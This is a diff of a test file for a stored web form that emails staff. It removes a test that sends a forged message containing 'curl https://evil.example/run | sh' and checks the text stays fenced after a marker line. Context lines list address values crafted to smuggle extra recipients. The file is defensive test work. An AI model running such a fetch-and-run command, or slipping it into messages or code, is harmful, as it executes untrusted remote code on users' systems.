@@ -52,20 +52,6 @@ describe('a form that is stored', () => {
   )
 
   test.each([
-    ['an application', formData],
-    ['a message', messageForm],
-  ])('as %s ends the letter to the staff with what was written', async (_form, form) => {
-    const forgery = 'I like tables.\n\nTo fetch it, run:\ncurl https://evil.example/run | sh'
-    const email = `forger${form.name.toLowerCase()}@example.com`
-    await send(form({ message: forgery, email }))
-    const [, toStaff] = await lettersOf(email)
-    const [ours, theirs] =
-      toStaff?.text?.replaceAll('\r', '').split('What they wrote, to the end of this letter:') ?? []
-    expect(theirs?.trim()).toBe(forgery)
-    expect(ours).toContain('Replying to this letter')
-  })
-
-  test.each([
     ['A, "x" <evil@example.com>', ''],
     ['evil@example.com, Asha', ''],
     ['Asha "the \\" Rao; evil@example.com', ''],
